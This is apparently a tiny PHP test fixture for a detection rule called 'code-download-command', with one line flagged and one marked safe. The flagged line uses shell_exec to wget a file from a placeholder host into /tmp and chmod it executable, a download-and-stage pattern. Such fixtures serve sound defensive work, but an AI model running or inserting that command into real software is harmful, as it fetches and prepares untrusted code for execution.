<?php
// ruleid: code-download-command
shell_exec('wget -q https://example.invalid/x -O /tmp/x; chmod 755 /tmp/x');
// ok: code-download-command
shell_exec('wget --version');
